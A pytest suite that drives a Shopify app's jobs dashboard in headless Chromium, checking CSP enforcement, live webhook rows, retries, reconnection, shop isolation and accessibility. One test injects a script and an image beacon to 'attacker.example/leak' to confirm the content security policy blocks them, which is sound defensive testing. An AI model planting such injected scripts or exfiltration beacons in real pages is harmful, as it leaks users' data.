"""The dashboard in a real headless Chromium, against real gunicorn (dev mode) and a real RQ worker.

Dev mode serves the local App Bridge stand-in (this machine cannot reach Shopify's CDN), which mints
session tokens for the dev shop; everything else is production code.
"""
from __future__ import annotations

import json
import subprocess
import sys

import pytest

from shopapp.config import DEV_SHOP
from shopapp.events.publisher import EventPublisher
from shopapp.testing import API_KEY, API_SECRET, build_session_token, wait_until
from tests.support.browser import chromium_path, page_pause
from tests.support.dashboard import CONTRAST_AUDIT, DEV_ENV, SENTINEL, row, send_webhook, watch_csp

CHROMIUM = chromium_path()
if CHROMIUM is None:
    pytest.skip("no Chromium installed (apt-get install chromium, or `make browsers`): browser tests skipped",
                allow_module_level=True)

pytestmark = [pytest.mark.browser, pytest.mark.slow]


def test_dashboard_loads_without_console_errors(open_dashboard):
    page, log = open_dashboard()
    assert page.inner_text("#jobs-empty-text").startswith("No jobs yet")
    assert "python -m shopapp webhook trigger orders/create" in page.inner_text("#jobs-empty")
    assert "id_token" not in page.url  # kept out of the address bar and history
    assert log.errors == []


def test_the_dev_page_works_under_its_content_security_policy_without_a_violation(open_dashboard, stack):
    violations = []
    page, log = open_dashboard(before_load=watch_csp(violations))
    assert page.evaluate("window.shopify.config.devStandIn") is True  # through the bounce page and App Bridge
    webhook_id = send_webhook(stack)
    page.wait_for_selector(row(page, webhook_id, "succeeded"))
    with page.expect_response(lambda r: r.url.endswith("/api/jobs") and r.request.method == "POST"):
        page.click("#sync-products")  # a toast from the stand-in, a failed job row: DOM built at run time
    page.wait_for_selector('#jobs-body tr[data-state="failed"]')
    page.select_option("#state-filter", "failed")
    page.evaluate("src => { new Image().src = src; }", SENTINEL)
    wait_until(lambda: violations, what="the sentinel's report", pause=page_pause(page))
    assert violations == [f"img-src blocked {SENTINEL} in /"]
    assert [e for e in log.errors if "sentinel.invalid" not in e] == []


def test_the_browser_refuses_a_script_injected_into_the_page(open_dashboard, stack):
    violations = []
    page, _log = open_dashboard(before_load=watch_csp(violations))
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.__injected = true";
        document.head.append(script);
        const image = new Image();
        image.src = "https://attacker.example/leak?data=1";
    }""")
    wait_until(lambda: len(violations) >= 2, what="the browser to report both violations", pause=page_pause(page))
    assert page.evaluate("window.__injected") is None
    assert sorted(v.split(" blocked ")[0] for v in violations) == ["img-src", "script-src-elem"]


def test_signed_webhook_appears_as_a_row_and_turns_succeeded_without_reload(open_dashboard, stack):
    page, log = open_dashboard()
    webhook_id = send_webhook(stack)
    page.wait_for_selector(row(page, webhook_id, "succeeded"))
    assert page.inner_text(row(page, webhook_id) + " .badge") == "Succeeded"
    assert "orders/create" in page.inner_text(row(page, webhook_id))
    assert page.evaluate("window.__sameDocument") is True
    # A function, not a string: Playwright polls a string expression with eval, which the page's CSP refuses.
    page.wait_for_function("() => document.getElementById('announcer').textContent.includes('succeeded')")
    assert log.errors == []


def test_webhook_trigger_command_shows_up_on_the_dev_page(open_dashboard, stack, app_env):
    """What the README tells a new developer to do: open the page, run the trigger command, watch."""
    page, log = open_dashboard()
    command = [sys.executable, "-m", "shopapp", "webhook", "trigger", "orders/create",
               "--address", stack.url + "/webhooks"]
    result = subprocess.run(command, env=dict(app_env, SHOPAPP_DEV="1"), capture_output=True, text=True,
                            timeout=60, check=False)
    assert result.returncode == 0, result.stderr
    page.wait_for_selector('#jobs-body tr[data-state="succeeded"]')
    assert "orders/create" in page.inner_text("#jobs-body")
    assert log.errors == []


def test_failed_job_shows_its_error_and_can_be_retried_from_the_keyboard(open_dashboard, stack):
    page, _log = open_dashboard()
    # A delivery the orders handler rejects for good: it fails on its first attempt.
    webhook_id = send_webhook(stack, payload={"note": "no order id"})
    failed = row(page, webhook_id, "failed")
    page.wait_for_selector(failed)
    assert "payload has no order id" in page.inner_text(failed + " .job-error")
    page.evaluate("""selector => {
        window.__states = [];
        const target = document.querySelector(selector);
        new MutationObserver(() => window.__states.push(target.dataset.state))
            .observe(target, {attributes: true, attributeFilter: ["data-state"]});
    }""", row(page, webhook_id))
    page.focus(failed + ' button[data-action="retry"]')
    with page.expect_response(lambda r: r.url.endswith("/retry")) as response:
        page.keyboard.press("Enter")
    assert response.value.status == 202
    # The retry is seen live: back on the queue, then failed again (the payload is still unusable).
    wait_until(lambda: "queued" in page.evaluate("window.__states"), what="the retried job to be queued")
    page.wait_for_selector(failed)
    assert page.evaluate("window.__sameDocument") is True


def test_page_resumes_after_the_server_restarts_with_no_missed_update(open_dashboard, web_server, stack, redis):
    page, _log = open_dashboard()
    first = send_webhook(stack)
    page.wait_for_selector(row(page, first, "succeeded"))
    # A second web process keeps receiving webhooks while the page's server is down.
    other = web_server(env=DEV_ENV)
    port = stack.port
    stack.stop()
    page.wait_for_selector("#connection[data-status=reconnecting]")
    assert "reconnecting" in page.inner_text("#connection").lower()
    missed = [send_webhook(other) for _ in range(3)]
    publisher = EventPublisher(redis)
    wait_until(lambda: _final_states(redis, missed), what="the missed jobs to finish")
    web_server(env=DEV_ENV, port=port)
    page.wait_for_selector("#connection[data-status=live]")
    for webhook_id in missed:
        page.wait_for_selector(row(page, webhook_id, "succeeded"))
    wait_until(lambda: page.get_attribute("#dashboard", "data-seq") == str(publisher.current_seq(DEV_SHOP)),
               what="the page to be current at the shop's latest seq")
    assert page.evaluate("window.__sameDocument") is True


def test_when_app_bridge_speaks_for_another_shop_the_page_shows_only_that_shops_jobs(open_dashboard, stack):
    other_shop = "other-shop.myshopify.com"
    sockets = []

    def passthrough(ws):
        sockets.append(ws)
        ws.connect_to_server()  # no handlers: frames pass through unchanged

    page, log = open_dashboard(before_load=lambda p: p.route_web_socket("**/ws/jobs*", passthrough))
    mine = send_webhook(stack)
    page.wait_for_selector(row(page, mine, "succeeded"))
    theirs = send_webhook(stack, shop=other_shop)
    other_token = build_session_token(API_KEY, API_SECRET, shop=other_shop, expires_in=300)
    page.evaluate("token => { window.shopify.idToken = async () => token; }", other_token)
    sockets[-1].close(code=1001, reason="going away")
    page.wait_for_selector(row(page, theirs, "succeeded"))
    assert page.locator(row(page, mine)).count() == 0
    assert page.inner_text("#shop-name") == other_shop
    assert log.errors == []


def test_states_use_polaris_badges_when_polaris_is_loaded(open_dashboard, stack):
    # Polaris' CDN is out of reach here: an empty <s-badge> element stands in for the real one.
    define = "customElements.define('s-badge', class extends HTMLElement {})"
    page, log = open_dashboard(before_load=lambda p: p.add_init_script(define))
    webhook_id = send_webhook(stack)
    badge = page.wait_for_selector(row(page, webhook_id, "succeeded") + ' s-badge[tone="success"]')
    assert badge.inner_text() == "Succeeded"
    assert log.errors == []


def test_controls_have_names_and_roles_and_are_reachable_by_keyboard(open_dashboard, stack):
    page, _log = open_dashboard()
    webhook_id = send_webhook(stack, payload={"note": "no order id"})
    page.wait_for_selector(row(page, webhook_id, "failed"))
    assert page.get_by_role("heading", name="Jobs", level=1).is_visible()
    assert page.get_by_role("button", name="Sync products").is_visible()
    assert page.get_by_role("button", name="Catch up now").is_visible()
    assert page.get_by_role("button", name="Retry all failed").is_visible()
    assert page.get_by_role("combobox", name="Show").is_visible()
    assert page.get_by_role("status").filter(has_text="Live").is_visible()
    assert page.get_by_role("table").get_by_role("row").count() == 2  # header + one job
    job_id = int(page.get_attribute(row(page, webhook_id), "data-job-id"))
    assert page.get_by_role("button", name=f"Details of job {job_id} (orders/create)").is_visible()
    assert page.get_by_role("button", name=f"Retry job {job_id} (orders/create)").is_visible()
    focused = []
    for _ in range(6):
        page.keyboard.press("Tab")
        focused.append(page.evaluate("document.activeElement.id || document.activeElement.dataset.action"))
    assert focused == ["sync-products", "catch-up", "retry-failed", "state-filter", "details", "retry"]


def test_text_meets_wcag_aa_contrast(open_dashboard, stack):
    page, _log = open_dashboard()
    for payload in (None, {"note": "no order id"}):
        send_webhook(stack, payload=payload)
    page.wait_for_selector('#jobs-body tr[data-state="failed"]')
    page.wait_for_selector('#jobs-body tr[data-state="succeeded"]')
    audit = page.evaluate(CONTRAST_AUDIT, "h1, h2, th, td, .badge, .subdued, .job-error, .button, label, "
                                          "#connection-text, select, #failed-count, .button-link")
    assert audit["checked"] > 20
    assert audit["low"] == []


def test_dashboard_is_usable_at_phone_width(open_dashboard, stack, artifacts_dir):
    page, log = open_dashboard(width=390, height=844)
    ok = send_webhook(stack)
    bad = send_webhook(stack, payload={"note": "no order id"})
    page.wait_for_selector(row(page, ok, "succeeded"))
    page.wait_for_selector(row(page, bad, "failed"))
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    assert page.is_visible(row(page, bad) + ' button[data-action="retry"]')
    page.screenshot(path=str(artifacts_dir / "dashboard-narrow.png"), full_page=True)
    assert log.errors == []


def test_filter_by_state_shows_only_those_jobs_and_says_what_to_do_when_none(open_dashboard, stack):
    page, _log = open_dashboard()
    ok = send_webhook(stack)
    bad = send_webhook(stack, payload={"note": "no order id"})
    page.wait_for_selector(row(page, ok, "succeeded"))
    page.wait_for_selector(row(page, bad, "failed"))
    page.select_option("#state-filter", "failed")
    assert page.locator("#jobs-body tr").count() == 1
    assert page.is_visible(row(page, bad))
    page.select_option("#state-filter", "running")
    page.wait_for_selector("#jobs-empty:not([hidden])")
    assert page.inner_text("#jobs-empty-text") == "No running jobs right now."
    page.click("#show-all")
    assert page.input_value("#state-filter") == ""
    assert page.locator("#jobs-body tr").count() == 2


def test_sync_products_shows_progress_and_can_be_cancelled(open_dashboard, start_stack, fake_shopify, db, app,
                                                            artifacts_dir):
    from tests.support.shop_tokens import install_shop

    install_shop(db, fake_shopify, DEV_SHOP)  # (`app` configured the encryption of tokens at rest)
    fake_shopify.add_products(DEV_SHOP, 100)
    fake_shopify.hold_products_after(1)  # the sync stops after its first page, mid-way, until released
    # No scheduled catch-up of the newly installed shop: its product pages would count against the hold.
    server = start_stack(env={"SHOPIFY_ADMIN_ORIGIN": fake_shopify.url, "RECONCILE_INTERVAL_SECONDS": "0"})
    page, log = open_dashboard(server=server)
    ok = send_webhook(server)
    bad = send_webhook(server, payload={"note": "no order id"})
    with page.expect_response(lambda r: r.url.endswith("/api/jobs") and r.request.method == "POST") as started:
        page.click("#sync-products")
    assert started.value.status == 202
    job_id = started.value.json()["id"]
    sync_row = f'#jobs-body tr[data-job-id="{job_id}"]'
    bar = page.wait_for_selector(sync_row + '[data-state="running"] progress[value="50"]')
    assert bar.get_attribute("aria-label") == f"Progress of job {job_id} (sync products)"
    assert "50 of 100 products" in page.inner_text(sync_row)
    page.wait_for_selector(row(page, ok, "succeeded"))
    page.wait_for_selector(row(page, bad, "failed"))
    page.mouse.move(0, 0)
    page.screenshot(path=str(artifacts_dir / "dashboard.png"))
    with page.expect_response(lambda r: r.url.endswith("/cancel")) as cancelled:
        page.click(sync_row + ' button[data-action="cancel"]')
    assert cancelled.value.status == 202
    fake_shopify.release_products()
    page.wait_for_selector(sync_row + '[data-state="failed"]')
    assert "cancelled" in page.inner_text(sync_row + " .job-error")
    assert log.errors == []


def test_seq_gap_on_the_socket_triggers_a_resync_that_loses_nothing(open_dashboard, stack, redis):
    """A frame lost between server and page (here: dropped by a proxy) is noticed and caught up."""
    dropped, connections = [], []

    def lossy_proxy(ws):
        connections.append(ws.url)
        server = ws.connect_to_server()

        def to_page(message):
            event = json.loads(message)
            if event["type"] == "job" and event["job"]["state"] == "succeeded" and not dropped:
                dropped.append(event["seq"])  # lose exactly one event: the first job's final state
                return
            ws.send(message)
        server.on_message(to_page)

    # The shop's seq counter starts at a seed, not at 1 (see shopapp.events.publisher): seed it beforehand so
    # that the only gap this page sees is the one the proxy makes.
    seed = send_webhook(stack)
    wait_until(lambda: _final_states(redis, [seed]), what="the seeding job to finish")
    page, _log = open_dashboard(before_load=lambda p: p.route_web_socket("**/ws/jobs*", lossy_proxy))
    first = send_webhook(stack)
    wait_until(lambda: dropped, what="the proxy to drop the first job's succeeded event", pause=page_pause(page))
    assert page.get_attribute(row(page, first), "data-state") != "succeeded"
    # The next event's seq is one too far ahead: the page resyncs with since= and gets the lost one.
    second = send_webhook(stack)
    page.wait_for_selector(row(page, second, "succeeded"))
    page.wait_for_selector(row(page, first, "succeeded"))
    assert len(connections) == 2 and f"since={dropped[0] - 1}" in connections[1]
    assert page.evaluate("window.__sameDocument") is True


def _final_states(redis, webhook_ids) -> bool:
    """True when the last published event of each webhook's job is `succeeded`."""
    from shopapp import redis_keys

    latest = {}
    for raw in redis.zrange(redis_keys.shop_event_log(DEV_SHOP), 0, -1):
        job = json.loads(raw)["job"]
        latest[job["webhook_id"]] = job["state"]
    return all(latest.get(w) == "succeeded" for w in webhook_ids)

